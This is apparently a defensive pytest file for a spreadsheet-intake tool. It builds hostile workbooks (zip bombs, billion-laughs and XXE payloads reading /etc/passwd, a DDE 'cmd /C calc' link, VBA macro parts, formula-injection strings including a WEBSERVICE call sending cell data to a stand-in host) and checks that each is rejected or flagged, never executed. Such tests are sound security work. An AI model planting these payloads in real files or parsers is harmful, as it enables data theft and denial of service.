"""Hostile and broken returned files: each is dropped into 回收/ next to one good unit workbook and
consolidated. None may crash or hang the run or grow its memory; each is rejected with exactly the
expected finding (formula-injection text is a finding on its cell, never executed), and the good
workbook is still accepted with its values in the ledger.

Every file is built here at run time, small on disk: the 1 GiB zip bomb is written through
`zipfile` a MiB at a time and is about 1 MB compressed; the OLE files are assembled byte by byte.
"""

from __future__ import annotations

import io
import json
import os
import random
import re
import resource
import shutil
import signal
import struct
import subprocess
import sys
import warnings
import zipfile
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from datetime import date
from pathlib import Path

import openpyxl
import pytest

from tests import windows_mode
from tests.test_consolidate_e2e import fill_openpyxl, outgoing
from workbooks.generate.identity import IDENTITY_SHEET
from workbooks.generate.run import generate
from workbooks.generate.unit_workbook import INPUTS, TASKS
from workbooks.intake.consolidate import LEDGER_FILE, Summary, consolidate
from workbooks.intake.reader import ReadFailure, read_isolated
from workbooks.ledger import Ledger
from workbooks.project import Project, init_project, open_project

REPO = Path(__file__).resolve().parents[1]
GiB, MiB = 1 << 30, 1 << 20
HR, PBOC, NDRC = "市人社局", "人行宜昌中心支行", "市发改委"
HR_UNIT = "宜昌市人力资源和社会保障局"
GOOD_VALUES = {"cs_total": 13650, "d_s03_archive_use": 0.8, "soc_labour_list": True, "soc_labour_graded": "否"}
GOOD_TYPED = {"cs_total": 13650, "d_s03_archive_use": 0.8, "soc_labour_list": True, "soc_labour_graded": False}
HANG_LIMIT = 600.0  # a run still going after this is hung: a guard that ends a stuck suite, not a speed check
MEMORY_GROWTH_LIMIT = 200 * MiB
SST = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


# ---------------------------------------------------------------- guards


class Hang(Exception):
    pass


@contextmanager
def deadline(seconds: float) -> Iterator[None]:
    """Fail (instead of hanging the suite) if the block runs longer than `seconds`."""

    def expired(signum, frame):  # noqa: ANN001, ANN202, ARG001
        raise Hang(f"still running after {seconds:g} s")

    previous = signal.signal(signal.SIGALRM, expired)
    signal.setitimer(signal.ITIMER_REAL, seconds)
    try:
        yield
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, previous)


def guarded_consolidate(project: Project) -> Summary:
    """Consolidate, failing instead of hanging the suite; how long it takes is for the benchmarks."""
    with deadline(HANG_LIMIT):
        return consolidate(project)


# ---------------------------------------------------------------- building files


def rezip(source: Path, target: Path, replace: dict[str, bytes | None] | None = None) -> None:
    """Copy a workbook part by part; `replace` maps a part to new bytes (a new part if absent, None drops it)."""
    replace = dict(replace or {})
    with zipfile.ZipFile(source) as zin, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            data = replace.pop(info.filename, zin.read(info))
            if data is not None:
                zout.writestr(info.filename, data)
        for name, data in replace.items():
            if data is not None:
                zout.writestr(name, data)


def with_part(
    source: Path, target: Path, part: str, content_type: str, rel_type: str, data: bytes, main: str | None = None
) -> None:
    """Add a part to a real workbook the way Excel does: the part, its content type and a workbook relationship
    (and, with `main`, another content type for the workbook part itself)."""
    with zipfile.ZipFile(source) as z:
        types = z.read("[Content_Types].xml").decode()
        rels = z.read("xl/_rels/workbook.xml.rels").decode()
    types = types.replace("</Types>", f'<Override PartName="/{part}" ContentType="{content_type}"/></Types>')
    if main:
        assert f"{CT_MAIN}.sheet.main+xml" in types
        types = types.replace(f"{CT_MAIN}.sheet.main+xml", main)
    target_in_xl = part.removeprefix("xl/")
    rels = rels.replace(
        "</Relationships>", f'<Relationship Id="rIdX1" Type="{rel_type}" Target="{target_in_xl}"/></Relationships>'
    )
    rezip(
        source,
        target,
        {"[Content_Types].xml": types.encode(), "xl/_rels/workbook.xml.rels": rels.encode(), part: data},
    )


def streamed_part(source: Path, target: Path, part: str, head: bytes, fill: bytes, size: int, tail: bytes) -> None:
    """A real workbook whose `part` is `head + fill * … + tail`, about `size` bytes, written a MiB at a time."""
    chunk = fill * (MiB // len(fill))
    with (
        zipfile.ZipFile(source) as zin,
        zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zout,
    ):
        for info in zin.infolist():
            if info.filename != part:
                zout.writestr(info.filename, zin.read(info))
        with zout.open(part, "w") as fh:
            fh.write(head)
            written = 0
            while written < size:
                fh.write(chunk)
                written += len(chunk)
            fh.write(tail)


def patch_entry(path: Path, part: str, *, file_size: int | None = None, flag_bits: int | None = None) -> None:
    """Rewrite what the central directory and the local header declare about one entry."""
    data = bytearray(path.read_bytes())
    eocd = data.rindex(b"PK\x05\x06")
    (count,) = struct.unpack_from("<H", data, eocd + 10)
    (pos,) = struct.unpack_from("<I", data, eocd + 16)
    found = False
    for _ in range(count):
        assert data[pos : pos + 4] == b"PK\x01\x02"
        name_len, extra_len, comment_len = struct.unpack_from("<HHH", data, pos + 28)
        (local,) = struct.unpack_from("<I", data, pos + 42)
        if data[pos + 46 : pos + 46 + name_len].decode() == part:
            found = True
            if file_size is not None:
                struct.pack_into("<I", data, pos + 24, file_size)
                struct.pack_into("<I", data, local + 22, file_size)
            if flag_bits is not None:
                struct.pack_into("<H", data, pos + 8, flag_bits)
                struct.pack_into("<H", data, local + 6, flag_bits)
        pos += 46 + name_len + extra_len + comment_len
    assert found, part
    path.write_bytes(bytes(data))


def ole_file(streams: dict[str, bytes]) -> bytes:
    """A minimal but well-formed OLE compound file (version 3, 512-byte sectors, no mini stream)."""
    sector, free, end, fat_sect, nostream = 512, 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF
    bodies = [data.ljust(max(4096, -(-len(data) // sector) * sector), b"\0") for data in streams.values()]
    entries = [("Root Entry", 5, 0, 0)]
    fat = [fat_sect, end]  # sector 0: the FAT, sector 1: the directory
    for (name, _), body in zip(streams.items(), bodies, strict=True):
        first = len(fat)
        count = len(body) // sector
        fat += [first + k + 1 for k in range(count - 1)] + [end]
        entries.append((name, 2, first, len(body)))  # 4096 bytes or more: a regular stream, no mini stream
    assert len(fat) <= 128 and len(entries) <= 4
    directory = bytearray()
    for k, (name, kind, start, size) in enumerate(entries):
        encoded = (name + "\0").encode("utf-16-le")
        left = nostream
        right = k + 1 if 1 <= k < len(entries) - 1 else nostream
        child = 1 if kind == 5 and len(entries) > 1 else nostream
        directory += struct.pack(
            "<64sHBBIII16sIQQIQ",
            encoded,
            len(encoded),
            kind,
            1,
            left,
            right,
            child,
            b"\0" * 16,
            0,
            0,
            0,
            start if kind == 2 else end,
            size,
        )
    directory = directory.ljust(sector, b"\0")
    for k in range(len(entries), 4):  # unused entries: no siblings, no child
        struct.pack_into("<III", directory, k * 128 + 68, nostream, nostream, nostream)
    header = struct.pack(
        "<8s16sHHHHH6sIIIIIIIII",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
        b"\0" * 16,
        0x3E,
        3,
        0xFFFE,
        9,
        6,
        b"\0" * 6,
        0,
        1,
        1,
        0,
        4096,
        end,
        0,
        end,
        0,
    ) + struct.pack("<109I", 0, *([free] * 108))
    fat_sector = struct.pack(f"<{len(fat)}I", *fat).ljust(sector, b"\xff")
    return header + fat_sector + directory + b"".join(bodies)


def biff8_workbook_stream(build: int = 0x0DBB) -> bytes:
    bof = struct.pack("<HHHHHHII", 0x0809, 16, 0x0600, 0x0005, build, 0x07CC, 0x41, 0x06)
    return bof + struct.pack("<HH", 0x000A, 0)  # BOF (workbook globals, BIFF8), EOF


BILLION_LAUGHS = (
    '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE sst [\n<!ENTITY lol "lol">\n'
    + "".join(f'<!ENTITY lol{k} "{f"&lol{k - 1};" * 10 if k > 1 else "&lol;" * 10}">\n' for k in range(1, 10))
    + f']>\n<sst xmlns="{SST}" count="1" uniqueCount="1"><si><t>&lol9;</t></si></sst>'
)
EXTERNAL_ENTITY = (
    '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
    f'<sst xmlns="{SST}" count="1" uniqueCount="1"><si><t>&xxe;</t></si></sst>'
)
DDE_LINK = (
    f'<externalLink xmlns="{SST}"><ddeLink ddeService="cmd" ddeTopic="/C calc">'
    '<ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink></externalLink>'
)
CONNECTIONS = (
    f'<connections xmlns="{SST}"><connection id="1" name="查询" type="4" refreshedVersion="6" refreshOnLoad="1">'
    '<webPr url="http://example.invalid/collect?d=1" htmlTables="1"/></connection></connections>'
)
CT_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


@dataclass
class Base:
    root: Path  # a generated project, nothing returned yet
    good: Path  # 市人社局's workbook, filled
    bombs: Path  # the 1 GiB bombs, built once


@pytest.fixture(scope="module")
def base(tmp_path_factory: pytest.TempPathFactory) -> Base:
    folder = tmp_path_factory.mktemp("hostile")
    project = init_project(folder / "项目", "national-2019", today=date(2019, 3, 1))
    generate(project)
    good = folder / "good.xlsx"
    fill_openpyxl(outgoing(project, HR), good, GOOD_VALUES)
    bombs = folder / "bombs"
    bombs.mkdir()
    # a shared string of 1 GiB of one repeated byte: about 1 MB compressed
    honest = bombs / "bomb-honest.xlsx"
    head = f'<?xml version="1.0" encoding="UTF-8"?>\n<sst xmlns="{SST}" count="1" uniqueCount="1"><si><t>'.encode()
    streamed_part(outgoing(project, NDRC), honest, "xl/sharedStrings.xml", head, b"A", GiB, b"</t></si></sst>")
    assert honest.stat().st_size < 4 * MiB
    # the same bytes, but both headers declare the part to be 4 KiB
    lying = bombs / "bomb-lying.xlsx"
    shutil.copyfile(honest, lying)
    patch_entry(lying, "xl/sharedStrings.xml", file_size=4096)
    with zipfile.ZipFile(lying) as z:
        assert z.getinfo("xl/sharedStrings.xml").file_size == 4096
    return Base(project.root, good, bombs)


def fresh_project(base: Base, tmp_path: Path) -> Project:
    root = tmp_path / "项目"
    shutil.copytree(base.root, root)
    project, _ = open_project(root)
    shutil.copyfile(base.good, project.inbox / f"{HR}-任务分解表（已填）.xlsx")
    return project


def generated(base: Base, label: str) -> Path:
    return next(p for p in (base.root / "下发").iterdir() if p.name.startswith(label + "-"))


# Each builder writes the hostile file into the folder it is given and returns its path.
Builder = Callable[[Base, Path], Path]


def b_bomb_honest(base: Base, folder: Path) -> Path:
    return Path(shutil.copyfile(base.bombs / "bomb-honest.xlsx", folder / "压缩炸弹.xlsx"))


def b_bomb_lying(base: Base, folder: Path) -> Path:
    return Path(shutil.copyfile(base.bombs / "bomb-lying.xlsx", folder / "压缩炸弹-声明大小不实.xlsx"))


def b_bomb_ratio(base: Base, folder: Path) -> Path:
    """Under the per-part size cap, but a sheet that inflates more than 200 times."""
    target = folder / "高压缩比.xlsx"
    head = f'<?xml version="1.0" encoding="UTF-8"?>\n<worksheet xmlns="{SST}"><sheetData>'.encode()
    row = b'<row r="1"><c r="A1" t="n"><v>1</v></c></row>'
    streamed_part(
        generated(base, NDRC), target, "xl/worksheets/sheet3.xml", head, row, 24 * MiB, b"</sheetData></worksheet>"
    )
    return target


def b_billion_laughs(base: Base, folder: Path) -> Path:
    target = folder / "实体扩展.xlsx"
    rezip(generated(base, NDRC), target, {"xl/sharedStrings.xml": BILLION_LAUGHS.encode()})
    return target


def b_billion_laughs_padded(base: Base, folder: Path) -> Path:
    """The DOCTYPE behind 100 KiB of comment, past any look at the first bytes only."""
    target = folder / "实体扩展-靠后.xlsx"
    padded = BILLION_LAUGHS.replace("\n<!DOCTYPE", "\n<!--" + " " * (100 * 1024) + "-->\n<!DOCTYPE", 1)
    rezip(generated(base, NDRC), target, {"xl/sharedStrings.xml": padded.encode()})
    return target


def b_billion_laughs_utf16(base: Base, folder: Path) -> Path:
    target = folder / "实体扩展-UTF16.xlsx"
    text = BILLION_LAUGHS.replace('encoding="UTF-8"', 'encoding="UTF-16"')
    rezip(generated(base, NDRC), target, {"xl/sharedStrings.xml": text.encode("utf-16")})
    return target


def b_external_entity(base: Base, folder: Path) -> Path:
    target = folder / "外部实体.xlsx"
    rezip(generated(base, NDRC), target, {"xl/sharedStrings.xml": EXTERNAL_ENTITY.encode()})
    return target


def b_macro(base: Base, folder: Path) -> Path:
    target = folder / f"{NDRC}-任务分解表.xlsx"  # an .xlsm renamed
    vba = ole_file({"VBA": b'Attribute VB_Name = "ThisWorkbook"\r\nSub Workbook_Open()\r\nEnd Sub\r\n'})
    with_part(
        generated(base, NDRC),
        target,
        "xl/vbaProject.bin",
        "application/vnd.ms-office.vbaProject",
        "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
        vba,
        main="application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    )
    return target


def b_external_link(base: Base, folder: Path) -> Path:
    target = folder / "外部链接-DDE.xlsx"
    with_part(
        generated(base, NDRC),
        target,
        "xl/externalLinks/externalLink1.xml",
        f"{CT_MAIN}.externalLink+xml",
        f"{REL}/externalLink",
        DDE_LINK.encode(),
    )
    return target


def b_connections(base: Base, folder: Path) -> Path:
    target = folder / "数据连接.xlsx"
    with_part(
        generated(base, NDRC),
        target,
        "xl/connections.xml",
        f"{CT_MAIN}.connections+xml",
        f"{REL}/connections",
        CONNECTIONS.encode(),
    )
    return target


def b_truncated(base: Base, folder: Path) -> Path:
    data = base.good.read_bytes()
    target = folder / "截断.xlsx"
    target.write_bytes(data[: len(data) // 2])
    return target


def b_corrupted(base: Base, folder: Path) -> Path:
    """Directory intact, but 400 bytes inside a sheet's compressed data overwritten."""
    target = folder / "内容损坏.xlsx"
    shutil.copyfile(base.good, target)
    with zipfile.ZipFile(target) as z:
        info = next(i for i in z.infolist() if i.filename.startswith("xl/worksheets/") and i.compress_size > 1000)
    data = bytearray(target.read_bytes())
    start = info.header_offset + 30 + len(info.filename) + 200
    data[start : start + 400] = bytes(range(200)) * 2
    target.write_bytes(bytes(data))
    return target


def b_zip_encrypted(base: Base, folder: Path) -> Path:
    """Zip-level (PKWARE) encryption: the workbook part flagged as encrypted."""
    target = folder / "压缩包加密.xlsx"
    shutil.copyfile(base.good, target)
    patch_entry(target, "xl/workbook.xml", flag_bits=0x1)
    return target


def b_ole_junk(base: Base, folder: Path) -> Path:
    target = folder / "加密.xlsx"
    target.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + random.Random("ole-junk").randbytes(8192))
    return target


def b_ole_encrypted(base: Base, folder: Path) -> Path:
    """What Excel writes for a password-protected .xlsx: an OLE file with the encrypted package in it."""
    target = folder / "加密-密码保护.xlsx"
    info = struct.pack("<HHI", 4, 4, 0x40) + b'<?xml version="1.0"?><encryption/>'
    target.write_bytes(
        ole_file({"EncryptionInfo": info, "EncryptedPackage": struct.pack("<Q", 9000) + random.Random("ole-encrypted").randbytes(9000)})
    )
    return target


def b_xls(base: Base, folder: Path) -> Path:
    target = folder / "旧版.xls"
    target.write_bytes(ole_file({"Workbook": biff8_workbook_stream()}))
    return target


def b_xls_renamed(base: Base, folder: Path) -> Path:
    target = folder / "旧版另存.xlsx"
    target.write_bytes(ole_file({"Workbook": biff8_workbook_stream(build=0x1F29)}))
    return target


def b_csv(base: Base, folder: Path) -> Path:
    target = folder / "数据.csv"
    target.write_text('数据项,值\ncs_total,13650\nnpl_rate,"=HYPERLINK(""http://x"",""y"")"\n', encoding="utf-8-sig")
    return target


def b_txt(base: Base, folder: Path) -> Path:
    target = folder / "说明.txt"
    target.write_text("城镇职工人数：13650\n", encoding="utf-8")
    return target


def b_empty(base: Base, folder: Path) -> Path:
    target = folder / "空文件.xlsx"
    target.write_bytes(b"")
    return target


def b_zip_of_text(base: Base, folder: Path) -> Path:
    target = folder / "压缩包.xlsx"
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("说明.txt", "城镇职工人数：13650\n")
    return target


def b_plain_workbook(base: Base, folder: Path) -> Path:
    """A real workbook, but one somebody made themselves: no identity."""
    target = folder / "自制表格.xlsx"
    wb = openpyxl.Workbook()
    wb.active["A1"], wb.active["B1"] = "城镇职工人数", 13650
    wb.save(target)
    return target


def b_many_parts(base: Base, folder: Path) -> Path:
    target = folder / "部件过多.xlsx"
    rezip(generated(base, NDRC), target, {f"xl/media/image{k}.png": b"" for k in range(2100)})
    return target


def b_duplicate_part(base: Base, folder: Path) -> Path:
    """Two parts under one name: which one a reader takes is up to the reader."""
    target = folder / "重名部件.xlsx"
    shutil.copyfile(generated(base, NDRC), target)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)  # zipfile warns of the duplicate name, which is the point
        with zipfile.ZipFile(target, "a") as z:
            z.writestr("xl/workbook.xml", b"<workbook/>")
    return target


def b_cell_flood(base: Base, folder: Path) -> Path:
    """The input sheet replaced by a million distinct cells: under every size cap, but a flood to hold."""
    built = base.bombs / "cell-flood.xlsx"
    if not built.exists():
        with zipfile.ZipFile(generated(base, NDRC)) as z:
            rels = z.read("xl/_rels/workbook.xml.rels").decode()
            book = z.read("xl/workbook.xml").decode()
        rid = re.search(rf'<sheet [^>]*name="{INPUTS}"[^>]*r:id="(rId\d+)"', book).group(1)
        part = "xl/" + re.search(rf'Id="{rid}"[^>]*Target="/?(?:xl/)?([^"]+)"', rels).group(1)
        rows = []
        for r in range(1, 1_000_001, 10):
            cells = "".join(f'<c r="{col}{r}"><v>{r % 97}</v></c>' for col in "ABCDEFGHIJ")
            rows.append(f'<row r="{r}">{cells}</row>')
        body = "".join(rows)
        data = f'<?xml version="1.0" encoding="UTF-8"?>\n<worksheet xmlns="{SST}"><sheetData>{body}</sheetData></worksheet>'
        assert len(data) < 32 * MiB
        rezip(generated(base, NDRC), built, {part: data.encode()})
    return Path(shutil.copyfile(built, folder / "单元格泛滥.xlsx"))


REJECTED: list[tuple[str, Builder, list[str]]] = [
    ("zip-bomb-1GiB", b_bomb_honest, ["file-too-large"]),
    ("zip-bomb-declared-size-lies", b_bomb_lying, ["file-too-large"]),
    ("zip-bomb-high-ratio", b_bomb_ratio, ["file-too-large"]),
    ("billion-laughs", b_billion_laughs, ["file-unsafe-xml"]),
    ("billion-laughs-behind-padding", b_billion_laughs_padded, ["file-unsafe-xml"]),
    ("billion-laughs-utf16", b_billion_laughs_utf16, ["file-unsafe-xml"]),
    ("external-entity", b_external_entity, ["file-unsafe-xml"]),
    ("macro-renamed-xlsx", b_macro, ["file-macro"]),
    ("external-link-dde", b_external_link, ["file-external-link"]),
    ("connections", b_connections, ["file-external-link"]),
    ("truncated-zip", b_truncated, ["file-damaged"]),
    ("corrupted-part", b_corrupted, ["file-damaged"]),
    ("zip-entries-encrypted", b_zip_encrypted, ["file-not-xlsx"]),
    ("ole-header-junk", b_ole_junk, ["file-damaged"]),  # an OLE signature and no compound file after it
    ("ole-encrypted-package", b_ole_encrypted, ["file-not-xlsx"]),
    ("xls", b_xls, ["file-not-xlsx"]),
    ("xls-renamed-xlsx", b_xls_renamed, ["file-not-xlsx"]),
    ("csv", b_csv, ["file-not-xlsx"]),
    ("txt", b_txt, ["file-not-xlsx"]),
    ("empty-file", b_empty, ["file-damaged"]),
    ("zip-of-text", b_zip_of_text, ["file-not-xlsx"]),
    ("plain-workbook", b_plain_workbook, ["file-not-unit-workbook"]),
    ("too-many-parts", b_many_parts, ["file-too-large"]),
    ("duplicate-part", b_duplicate_part, ["file-unsafe-zip"]),
    ("cell-flood", b_cell_flood, ["file-too-large"]),
]


def good_is_in_the_ledger(project: Project, summary: Summary | None) -> None:
    if summary is not None:
        good = next(o for o in summary.outcomes if o.name.startswith(HR))
        assert good.status == "accepted" and good.template == "current", good.findings
        assert [f.code for f in good.findings] == []
    ledger = Ledger(project.root / LEDGER_FILE)
    try:
        values = ledger.current_values(project.settings.round)
    finally:
        ledger.close()
    mine = {i: c.value for i, rows in values.items() for c in rows if c.unit == HR_UNIT}
    assert mine == GOOD_TYPED


@pytest.mark.parametrize(("case", "build", "codes"), REJECTED, ids=[c[0] for c in REJECTED])
def test_hostile_file_is_rejected_and_the_good_one_kept(
    base: Base, tmp_path: Path, case: str, build: Builder, codes: list[str]
) -> None:
    project = fresh_project(base, tmp_path)
    hostile = build(base, project.inbox)
    summary = guarded_consolidate(project)
    outcome = next(o for o in summary.outcomes if o.name == hostile.name)
    assert outcome.status == "rejected", (case, outcome.findings)
    assert sorted(f.code for f in outcome.findings) == codes, [(f.code, f.message) for f in outcome.findings]
    assert all(f.message and f.file == hostile.name for f in outcome.findings)
    good_is_in_the_ledger(project, summary)


# ---------------------------------------------------------------- formula injection


INJECTED_TEXT = {  # typed as text into input cells
    "npl_rate": '=HYPERLINK("http://x","y")',
    "fin_cases_closed": "+cmd|' /C calc'!A0",
    "fin_cases_received": "@SUM(1)",
    "fundraising_cases": "-2+3+cmd|' /C calc'!A0",
}
INJECTED_FORMULA = {  # real formula cells, saved without a cached value
    "xinyidai_amount": '=HYPERLINK("http://x","y")',
    "fin_recovered_amount": "=cmd|' /C calc'!A0",
    "fin_judged_amount": '=WEBSERVICE("http://x/?d="&F5)',
}
INJECTION_GOOD = {"fin_major_risk": "否", "fin_cases_pending_prev": 300}


def b_injection(base: Base, folder: Path) -> tuple[Path, dict[str, str]]:
    source = generated(base, PBOC)
    target = folder / f"{PBOC}-任务分解表.xlsx"
    wb = openpyxl.load_workbook(source)
    cells: dict[str, str] = {}
    for name, value in {**INJECTED_TEXT, **INJECTED_FORMULA, **INJECTION_GOOD}.items():
        sheet, ref = next(iter(wb.defined_names[name].destinations))
        cell = wb[sheet][ref.replace("$", "")]
        cell.value = value
        if name in INJECTED_TEXT:
            cell.data_type = "s"  # openpyxl makes any string starting with "=" a formula; this one is text
        cells[name] = cell.coordinate
    wb.save(target)
    with zipfile.ZipFile(target) as z:
        sheets = b"".join(z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))
    assert b"<f>HYPERLINK" in sheets and b"<f>cmd|" in sheets and b"<f>WEBSERVICE" in sheets
    assert sheets.count(b"<f>") == len(INJECTED_FORMULA)
    return target, cells


def test_a_text_file_is_told_apart_from_another_non_workbook(base: Base, tmp_path: Path) -> None:
    """The message says what the file is, from its name as returned (kept by its archive copy)."""
    project = fresh_project(base, tmp_path)
    built = {b_csv(base, project.inbox).name: "CSV 或文本文件", b_txt(base, project.inbox).name: "CSV 或文本文件"}
    zip_of_text = b_zip_of_text(base, project.inbox).name
    summary = guarded_consolidate(project)
    by_name = {o.name: o for o in summary.outcomes}
    for name, words in built.items():
        assert [f.code for f in by_name[name].findings] == ["file-not-xlsx"]
        assert words in by_name[name].findings[0].message, by_name[name].findings
    assert all("CSV" not in f.message for f in by_name[zip_of_text].findings)



def test_formula_injection_is_a_finding_and_never_executed(
    base: Base, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    attempts: list[str] = []

    def refuse(what: str):  # noqa: ANN202
        def call(*args, **kwargs):  # noqa: ANN002, ANN003, ANN202
            attempts.append(f"{what}{args!r}")
            raise AssertionError(f"{what} called while consolidating")

        return call

    project = fresh_project(base, tmp_path)
    hostile, cells = b_injection(base, project.inbox)
    import socket
    import webbrowser

    monkeypatch.setattr(socket.socket, "connect", refuse("socket.connect"))
    monkeypatch.setattr(subprocess, "Popen", refuse("subprocess.Popen"))
    monkeypatch.setattr(os, "system", refuse("os.system"))
    monkeypatch.setattr(webbrowser, "open", refuse("webbrowser.open"))
    summary = guarded_consolidate(project)
    monkeypatch.undo()
    assert attempts == []
    outcome = next(o for o in summary.outcomes if o.name == hostile.name)
    assert outcome.status == "accepted" and outcome.template == "current"
    got = sorted((f.code, f.sheet, f.cell, f.input) for f in outcome.findings)
    want = sorted(
        [("input-wrong-type", INPUTS, cells[name], name) for name in INJECTED_TEXT]
        + [("input-formula-unevaluated", INPUTS, cells[name], name) for name in INJECTED_FORMULA]
    )
    assert got == want, [(f.code, f.cell, f.input, f.message) for f in outcome.findings]
    for f in outcome.findings:
        shown = INJECTED_TEXT.get(f.input) or INJECTED_FORMULA[f.input]
        assert shown in f.message  # the office sees what was typed
    ledger = Ledger(project.root / LEDGER_FILE)
    try:
        values = ledger.current_values(project.settings.round)
    finally:
        ledger.close()
    pboc = {i: c.value for i, rows in values.items() for c in rows if c.unit == outcome.unit}
    assert pboc == {"fin_major_risk": False, "fin_cases_pending_prev": 300}
    good_is_in_the_ledger(project, summary)


# ---------------------------------------------------------------- the batch, memory, the reader on its own


def hostile_batch(base: Base, tmp_path: Path, project: Project) -> tuple[dict[str, list[str]], str]:
    """Every hostile file in one inbox beside the good one and a formula injection; the finding codes
    each must get, and the injection's name."""
    expected: dict[str, list[str]] = {}
    for case, build, codes in REJECTED:
        folder = tmp_path / "build" / case
        folder.mkdir(parents=True)
        built = build(base, folder)
        name = f"{case}-{built.name}"
        shutil.move(built, project.inbox / name)
        expected[name] = codes
    injected, _ = b_injection(base, project.inbox)
    return expected, injected.name


WINDOWS_BATCH = """
import json, sys
from pathlib import Path
from workbooks.intake.consolidate import consolidate
from workbooks.project import open_project
project, _ = open_project(Path(sys.argv[1]))
summary = consolidate(project)
print(json.dumps({o.name: [o.status, sorted(f.code for f in o.findings)] for o in summary.outcomes}))
"""


@pytest.mark.parametrize("mode", ["here", "windows-like"])
def test_whole_hostile_batch_in_one_folder(base: Base, tmp_path: Path, mode: str) -> None:
    """All of them at once, here and in Windows-like mode (tests/windows_mode.py: no `resource`, so no
    address-space limit in the reading workers, only the pool's watchdog and the reading's own caps;
    workers spawned as on Windows): the same outcome for every file."""
    project = fresh_project(base, tmp_path)
    expected, injected = hostile_batch(base, tmp_path, project)
    if mode == "here":
        summary = guarded_consolidate(project)
        seen = {o.name: [o.status, sorted(f.code for f in o.findings)] for o in summary.outcomes}
    else:
        env = {**os.environ, "PYTHONPATH": os.pathsep.join(filter(None, [str(REPO), os.environ.get("PYTHONPATH")]))}
        with deadline(HANG_LIMIT):
            done = subprocess.run(
                windows_mode.python_command(WINDOWS_BATCH, str(project.root)),
                cwd=REPO, env=env, capture_output=True, text=True, timeout=HANG_LIMIT - 10,
            )  # fmt: skip
        assert done.returncode == 0, done.stderr[-3000:]
        seen = json.loads(done.stdout.splitlines()[-1])
        summary = None
    assert len(seen) == len(expected) + 2
    for name, codes in expected.items():
        assert seen[name] == ["rejected", codes], name
    assert seen[injected][0] == "accepted"
    good_is_in_the_ledger(project, summary)


MEASURE = """
import json, resource, sys, time
from pathlib import Path
from workbooks.intake.consolidate import consolidate
from workbooks.intake.reader import ReadFailure, read_isolated
from workbooks.project import open_project
project, _ = open_project(Path(sys.argv[1]))
peak = lambda who: resource.getrusage(who).ru_maxrss * 1024
before = peak(resource.RUSAGE_SELF)
start = time.perf_counter()
summary = consolidate(project)
seconds = time.perf_counter() - start
after = peak(resource.RUSAGE_SELF)
direct = []
for bomb in sys.argv[2:]:
    try:
        read_isolated(Path(bomb))
        direct.append("read")
    except ReadFailure as failure:
        direct.append(failure.code)
print(json.dumps({
    "before": before, "after": after, "after_direct": peak(resource.RUSAGE_SELF),
    "children": peak(resource.RUSAGE_CHILDREN), "seconds": seconds, "direct": direct,
    "outcomes": {o.name: [o.status, sorted(f.code for f in o.findings)] for o in summary.outcomes},
}))
"""


def run_fresh(script: str, *args: object) -> dict:
    """Run `script` in a new interpreter (a consolidating process of its own); its last line is JSON."""
    env = {**os.environ, "PYTHONPATH": os.pathsep.join(filter(None, [str(REPO), os.environ.get("PYTHONPATH")]))}
    with deadline(HANG_LIMIT):
        done = subprocess.run(
            [sys.executable, "-c", script, *map(str, args)],
            cwd=REPO,
            env=env,
            capture_output=True,
            text=True,
            timeout=HANG_LIMIT - 10,
        )
    assert done.returncode == 0, done.stderr
    return json.loads(done.stdout.splitlines()[-1])


def test_zip_bombs_keep_memory_bounded(base: Base, tmp_path: Path) -> None:
    """Peak RSS of the consolidating process, measured in a fresh process so earlier tests cannot hide it."""
    project = fresh_project(base, tmp_path)
    for build in (b_bomb_honest, b_bomb_lying, b_bomb_ratio, b_cell_flood):
        build(base, project.inbox)
    bombs = [str(base.bombs / "bomb-honest.xlsx"), str(base.bombs / "bomb-lying.xlsx")]
    m = run_fresh(MEASURE, project.root, *bombs)
    print(
        f"\npeak RSS {m['before'] / MiB:.0f} MB before, {m['after'] / MiB:.0f} MB after consolidating the bombs "
        f"({m['seconds']:.1f} s), {m['after_direct'] / MiB:.0f} MB after reading them past the pre-scan; "
        f"reading children peaked at {m['children'] / MiB:.0f} MB"
    )
    assert m["after"] - m["before"] < MEMORY_GROWTH_LIMIT
    assert m["after_direct"] - m["before"] < MEMORY_GROWTH_LIMIT
    assert all(status == "rejected" for name, (status, _) in m["outcomes"].items() if not name.startswith(HR))
    # reading on its own (read_isolated) refuses both too: it checks every chunk as the pre-scan does, the
    # honest bomb at the per-part cap, the lying one the moment it inflates past the size it declares
    assert m["direct"] == ["file-too-large", "file-too-large"]
    # in this process too, as the consolidation's own ru_maxrss before and after
    again = fresh_project(base, tmp_path / "again")
    b_bomb_honest(base, again.inbox)
    b_bomb_lying(base, again.inbox)
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024
    guarded_consolidate(again)
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024 - before < MEMORY_GROWTH_LIMIT


def test_reader_refuses_dtd_on_its_own(base: Base, tmp_path: Path) -> None:
    """Defence in depth: a DTD that somehow passed the pre-scan still never reaches an expanding parser."""
    for build in (b_billion_laughs, b_billion_laughs_utf16, b_external_entity):
        path = build(base, tmp_path)
        with deadline(HANG_LIMIT), pytest.raises(ReadFailure) as failure:
            read_isolated(path)
        assert failure.value.code == "file-unsafe-xml"


RESERVED = """
import json, mmap, sys
from pathlib import Path
from workbooks.intake.consolidate import consolidate
